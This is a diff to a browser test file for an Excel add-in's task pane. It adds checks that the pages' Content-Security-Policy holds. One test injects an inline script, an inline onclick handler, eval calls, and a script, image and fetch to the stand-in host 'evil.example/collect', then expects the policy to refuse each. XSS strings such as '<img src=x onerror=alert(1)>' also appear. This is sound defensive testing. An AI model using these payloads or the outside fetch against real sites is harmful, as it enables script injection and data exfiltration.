@@ -5,8 +5,12 @@
 // named `<img src=x onerror=alert(1)>` must show as text. The Policy tab saves (settings `ar.policy`, a full
 // recalculation) or refuses next to the field; an Excel without ExcelApi 1.9 gets the "too old" message.
 // Every other request leaves nothing: the test
-// fails if the page tries one. Needs `npm run build` first (npm test does it) and /usr/bin/chromium.
-import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+// fails if the page tries one. The pages' Content-Security-Policy (scripts/build/csp.js) is in force as
+// the built <meta> delivers it: every test fails on a violation or a console error, and one injects an
+// inline script, an inline handler, eval and outside requests, which the policy must refuse while the pane
+// still triages. Needs `npm run build` first (npm test does it) and /usr/bin/chromium.
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
+import { createRequire } from "node:module";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
@@ -24,6 +28,10 @@ const root = join(__dirname, "../..");
 const dist = join(root, "dist");
 const EVIL = "<img src=x onerror=alert(1)>";
 const EVIL_HEADER = "<b onmouseover=alert(2)>notes</b>";
+const csp = createRequire(__filename)("../../scripts/build/csp.js") as {
+  CONTENT_SECURITY_POLICY: string;
+  withPolicy(html: string): { html: string } | { error: string };
+};
 
 const TYPES: Record<string, string> = {
   ".html": "text/html; charset=utf-8",
@@ -46,6 +54,8 @@ interface Watch {
   readonly workers: string[];
   readonly dialogs: string[];
   readonly errors: string[];
+  /** Content-Security-Policy violations reported in the page: `<effective directive> <blocked URI>`. */
+  readonly csp: string[];
 }
 
 beforeAll(async () => {
@@ -109,8 +119,9 @@ afterAll(async () => {
 
 /** Opens the pane on a fake workbook; office.js is the fake host, every other outside request is refused. */
 async function openPane(config: HostConfig): Promise<{ page: Page; watch: Watch }> {
-  const watch: Watch = { outside: [], dialogs: [], errors: [], workers: [] };
+  const watch: Watch = { outside: [], dialogs: [], errors: [], workers: [], csp: [] };
   const page = await context.newPage();
+  await page.exposeFunction("__arCspViolation", (v: string) => watch.csp.push(v));
   await page.route("**/*", async (route) => {
     const url = route.request().url();
     if (url === OFFICE_JS) return route.fulfill({ status: 200, contentType: "text/javascript", body: fakeHost });
@@ -126,8 +137,9 @@ async function openPane(config: HostConfig): Promise<{ page: Page; watch: Watch 
   page.on("worker", (worker) => watch.workers.push(worker.url()));
   page.on("console", (message) => message.type() === "error" && watch.errors.push(message.text()));
   await page.addInitScript((hostConfig) => {
-    const w = window as unknown as { __AR_HOST__: unknown; __arImages: string[] };
+    const w = window as unknown as { __AR_HOST__: unknown; __arImages: string[]; __arCspViolation(v: string): void };
     w.__AR_HOST__ = hostConfig;
+    document.addEventListener("securitypolicyviolation", (e) => w.__arCspViolation(`${e.effectiveDirective} ${e.blockedURI}`), true);
     // Every <img> ever put in the document, even one removed at once.
     w.__arImages = [];
     new MutationObserver((records) => {
@@ -261,7 +273,7 @@ describe("the task pane in Chromium on a fake Excel", () => {
 
     // The triage ran in a Web Worker loaded from the pane's own origin.
     expect(watch.workers).toContain(`${origin}/triage-worker.js`);
-    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [] });
+    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [], csp: [] });
     await page.close();
   });
 
@@ -302,7 +314,7 @@ describe("the task pane in Chromium on a fake Excel", () => {
     expect(await page.getByTestId("policy-status").textContent()).toBe("未保存：一、二、三级预警起点（天）：必须递增：60,30,90");
     expect(await savedSetting(page, "ar.policy")).toBeUndefined();
     await screenshot(page, "zh-policy");
-    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [] });
+    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [], csp: [] });
     await page.close();
   });
 
@@ -350,7 +362,7 @@ describe("the task pane in Chromium on a fake Excel", () => {
     await page.getByText("Saved in the workbook. Formulas recalculated.").waitFor();
     expect(await savedSetting(page, "ar.policy")).toBeUndefined();
     expect(await calculations(page)).toEqual(["Full", "Full"]);
-    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [] });
+    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [], csp: [] });
     await page.close();
   });
 
@@ -374,8 +386,8 @@ describe("the task pane in Chromium on a fake Excel", () => {
       "The policy stored in this workbook was not used, the defaults apply: Warning levels 1, 2, 3 from (days): must increase: 60,30,90",
     );
     expect(await savedSetting(second.page, "ar.policy")).toEqual({ warningDays: [60, 30, 90] });
-    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [] });
-    expect({ ...second.watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [] });
+    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [], csp: [] });
+    expect({ ...second.watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [], csp: [] });
     await second.page.close();
   });
 
@@ -389,7 +401,7 @@ describe("the task pane in Chromium on a fake Excel", () => {
     // the policy still works: it needs only the settings
     await page.getByRole("tab", { name: "Policy" }).click();
     await expect(page.getByRole("heading", { name: "Credit policy of this workbook" }).isVisible()).resolves.toBe(true);
-    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [] });
+    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [], csp: [] });
     await page.close();
   });
 
@@ -405,7 +417,164 @@ describe("the task pane in Chromium on a fake Excel", () => {
     await page.getByTestId("outcome").waitFor({ timeout: 10_000 });
     expect(await page.getByTestId("outcome").textContent()).toBe("Cancelled. Nothing was written.");
     expect(await sheetNames(page)).toEqual(["Debtors"]);
-    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [] });
+    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [], csp: [] });
+    await page.close();
+  });
+});
+
+/** A policy's directives by name. */
+function directives(policy: string): Map<string, string[]> {
+  return new Map(
+    policy
+      .split(";")
+      .map((d) => d.trim().split(/\s+/))
+      .filter((d) => d[0] !== "")
+      .map(([name, ...sources]) => [name, sources]),
+  );
+}
+
+describe("the pages' Content-Security-Policy", () => {
+  it("is first in every built page's <head>: scripts from the add-in and Office's CDN only, no inline script, no eval, no network", async () => {
+    const pages = readdirSync(dist).filter((f) => f.endsWith(".html"));
+    expect(pages).toContain("taskpane.html");
+    for (const name of pages) {
+      const html = readFileSync(join(dist, name), "utf8").replace(/<!--[\s\S]*?-->/g, ""); // (a development build keeps comments)
+      const metas = [...html.matchAll(/<meta\s+http-equiv="?Content-Security-Policy"?\s+content="([^"]*)"\s*\/?>/gi)];
+      expect(metas, name).toHaveLength(1);
+      expect(metas[0][1], name).toBe(csp.CONTENT_SECURITY_POLICY);
+      // A <meta> policy governs only what follows it: nothing to load or run comes before it.
+      expect(html.slice(0, metas[0].index), name).not.toMatch(/<(script|style|link|img|iframe)\b/i);
+      const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
+      expect(scripts.length, name).toBeGreaterThan(0);
+      for (const [, attributes, body] of scripts) {
+        expect(body.trim(), `${name}: inline script`).toBe("");
+        const src = /\ssrc="?([^"\s>]+)/i.exec(attributes)?.[1] ?? "";
+        // office.js from Microsoft's CDN, everything else a file of the add-in (relative URL)
+        expect(src === OFFICE_JS || /^[\w-]+\.js$/.test(src), `${name}: script ${src}`).toBe(true);
+      }
+      expect(html, `${name}: inline event handler`).not.toMatch(/<[^>]+\son[a-z]+\s*=/i);
+    }
+
+    const policy = directives(csp.CONTENT_SECURITY_POLICY);
+    expect(policy.get("default-src")).toEqual(["'none'"]);
+    expect(policy.get("script-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com/lib/1/hosted/"]);
+    expect(OFFICE_JS.startsWith(policy.get("script-src")![1])).toBe(true);
+    expect(policy.get("worker-src")).toEqual(["'self'"]);
+    expect(policy.get("object-src") ?? ["'none'"]).toEqual(["'none'"]);
+    expect(policy.get("base-uri")).toEqual(["'none'"]);
+    expect(policy.get("form-action")).toEqual(["'none'"]);
+    // no network of its own: connect-src is default-src's 'none'
+    expect(policy.has("connect-src")).toBe(false);
+    expect(csp.CONTENT_SECURITY_POLICY).not.toMatch(/unsafe-eval|wasm-unsafe-eval|unsafe-hashes|strict-dynamic|\*|data:|blob:|http:|'unsafe-inline'.*script|\bscript[^;]*'unsafe-inline'/);
+
+    // Neither build uses an eval source map (the policy would refuse it).
+    const config = createRequire(__filename)("../../webpack.config.js") as (env: object, options: { mode: string }) => Promise<{ devtool: unknown }>;
+    for (const mode of ["development", "production"]) expect(String((await config({}, { mode })).devtool), mode).not.toMatch(/eval/);
+
+    // The build puts the policy right after <meta charset> and refuses a page with an inline script.
+    expect(csp.withPolicy('<html><head><meta charset="utf-8"><title>x</title><script src="a.js"></script></head></html>')).toEqual({
+      html: `<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${csp.CONTENT_SECURITY_POLICY}"><title>x</title><script src="a.js"></script></head></html>`,
+    });
+    expect(csp.withPolicy("<html><head><!-- no inline <script> --><script>alert(1)</script></head></html>")).toEqual({
+      error: "inline script <script>: the policy refuses it; load it from a file",
+    });
+  });
+
+  it("in Chromium refuses an injected inline script, inline handler, eval and outside requests, and the pane still triages", async () => {
+    const { page, watch } = await openPane(englishBook());
+    await expect(page.getByRole("tab", { name: "Portfolio triage" }).isVisible()).resolves.toBe(true);
+    // The page loaded with its policy and without a violation.
+    expect(await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content"))).toBe(
+      csp.CONTENT_SECURITY_POLICY,
+    );
+    expect(watch).toMatchObject({ csp: [], errors: [], outside: [] });
+
+    const injected = await page.evaluate(async () => {
+      const w = window as unknown as Record<string, unknown>;
+      const added: Element[] = [];
+      const add = <E extends Element>(parent: Element, element: E): E => {
+        added.push(element);
+        parent.append(element);
+        return element;
+      };
+      const fromString = (run: () => unknown) => {
+        try {
+          run();
+          return "ran";
+        } catch (e) {
+          return (e as Error).name;
+        }
+      };
+      const request = async (url: string) => {
+        try {
+          await fetch(url);
+          return "fetched";
+        } catch (e) {
+          return (e as Error).name;
+        }
+      };
+      const script = document.createElement("script");
+      script.textContent = "window.__arInjected = 'ran'";
+      add(document.body, script);
+      const button = document.createElement("button");
+      button.setAttribute("onclick", "window.__arClicked = 'ran'");
+      add(document.body, button).click();
+      // In a task of the page's own (CDP lets code it evaluates directly use eval whatever the policy).
+      const [evalResult, functionResult] = await new Promise<string[]>((resolve) =>
+        setTimeout(() => resolve([fromString(() => (0, eval)("window.__arEval = 'ran'")), fromString(() => new Function("window.__arFunction = 'ran'")())]), 0),
+      );
+      const outsideScript = document.createElement("script");
+      outsideScript.src = "https://evil.example/x.js";
+      add(document.head, outsideScript);
+      const image = document.createElement("img");
+      image.src = "https://evil.example/pixel.png";
+      add(document.body, image);
+      const fetchOutside = await request("https://evil.example/collect");
+      const fetchOwn = await request("/triage-headers.md");
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      for (const element of added) element.remove();
+      return {
+        ran: [w.__arInjected, w.__arClicked, w.__arEval, w.__arFunction].filter((v) => v !== undefined),
+        eval: evalResult,
+        function: functionResult,
+        fetchOutside,
+        fetchOwn,
+      };
+    });
+    expect(injected).toEqual({ ran: [], eval: "EvalError", function: "EvalError", fetchOutside: "TypeError", fetchOwn: "TypeError" });
+    // Each refusal reported as a violation of the directive that refused it; nothing reached the network.
+    const expected = [
+      "connect-src https://evil.example/collect",
+      `connect-src ${origin}/triage-headers.md`,
+      "img-src https://evil.example/pixel.png",
+      "script-src eval",
+      "script-src eval",
+      "script-src-attr inline",
+      "script-src-elem https://evil.example/x.js",
+      "script-src-elem inline",
+    ].sort();
+    await expect.poll(() => [...watch.csp].sort(), { timeout: 5000 }).toEqual(expected);
+    expect(watch.outside).toEqual([]);
+    expect(watch.dialogs).toEqual([]);
+    expect(watch.errors.length).toBeGreaterThan(0);
+    for (const error of watch.errors) expect(error).toMatch(/Content Security Policy/);
+
+    // The pane still works under the policy, with no further violation or error.
+    watch.csp.length = 0;
+    watch.errors.length = 0;
+    await page.getByTestId("find").click();
+    await page.getByTestId("mapping").waitFor();
+    await page.locator("[data-field=balance]").selectOption("1");
+    await page.getByTestId("as-of").fill("2025-07-31");
+    await page.getByTestId("run").click();
+    await page.getByTestId("outcome").waitFor({ timeout: 10_000 });
+    expect(await page.getByTestId("outcome").textContent()).toContain("16 rows triaged into the sheet");
+    await page.getByRole("tab", { name: "Policy" }).click();
+    await page.getByLabel("Credit term, grade A (days)").fill("45");
+    await page.getByRole("button", { name: "Save and recalculate" }).click();
+    await page.getByText("Saved in the workbook. Formulas recalculated.").waitFor();
+    expect(watch.workers).toContain(`${origin}/triage-worker.js`);
+    expect({ ...watch, workers: [] }).toEqual({ outside: [], dialogs: [], errors: [], workers: [], csp: [] });
     await page.close();
   });
 });
